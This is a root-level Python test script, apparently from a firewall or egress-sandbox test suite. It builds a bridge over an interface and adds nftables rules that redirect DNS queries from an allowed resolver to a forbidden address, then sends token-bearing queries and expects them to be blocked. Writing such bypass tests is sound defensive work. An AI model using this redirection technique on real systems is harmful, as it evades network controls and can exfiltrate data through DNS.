#!/usr/bin/python3
# id: b20i_nft_bridge_rewrite
# title: a bridge over the interface, whose rules rewrite the destination of an allowed query
# needs: root
# expect: block
# why: a bridge has hooks of its own, behind the one of its interface
import sys, os; sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
from bp import *
import subprocess
def f():
    sh = lambda c: subprocess.run(c, shell=True, check=True)
    mac = json.loads(subprocess.check_output('ip -j link show v0', shell=True))[0]['address']
    sh(f'ip link add bpbr address {mac} type bridge && ip addr flush dev v0 && ip link set v0 master bpbr && ip addr add 10.99.0.1/24 dev bpbr && ip link set bpbr up')
    try:
        sh('nft add table bridge bpb && nft "add chain bridge bpb o { type filter hook postrouting priority 0 ; }"')
        sh(f'nft add rule bridge bpb o ip daddr {ALLOW} udp dport 53 ip daddr set {FORB}'); time.sleep(1)
        for _ in range(3): socket.socket(type=socket.SOCK_DGRAM).sendto(dnsq(f'{TOK}.{ANAME}'), (ALLOW, 53)); time.sleep(.3)
    finally:
        subprocess.run('nft delete table bridge bpb; ip link set v0 nomaster; ip link del bpbr; ip addr add 10.99.0.1/24 dev v0; ip addr add fd99::1/64 dev v0 nodad; ip route add 239.0.0.0/8 dev v0; ip link set v0 up', shell=True)
attempt(f, chan=('dns', 'pkt'))
